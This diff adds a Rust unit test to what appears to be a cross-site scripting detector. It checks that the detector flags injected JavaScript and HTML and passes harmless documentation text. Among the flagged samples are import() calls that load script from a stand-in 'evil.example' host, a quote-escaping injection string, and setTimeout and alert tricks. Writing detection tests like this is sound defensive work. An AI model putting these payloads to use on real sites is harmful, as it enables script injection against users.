@@ -543,3 +543,26 @@ fn prefilters_keep_what_they_guard() {
         assert!(!hit(v), "{v:?}");
     }
 }
+
+#[test]
+fn calls_that_run_nothing() {
+    for v in [
+        "import('//evil.example/x.js')",
+        "';import('https://evil.example/m.js')//",
+        "setTimeout(name)",
+        "setTimeout('alert(1)', 0)",
+        "[1].find(alert)",
+        "<div style=\"behavior: url(#default#time2)\">",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "import() expressions#",
+        "let m = await import('node:http2');",
+        "setInterval(callback[, delay[, ...args]])#",
+        "setTimeout(callback[ , delay])",
+        "<p>one would expect the following behavior:</p>",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
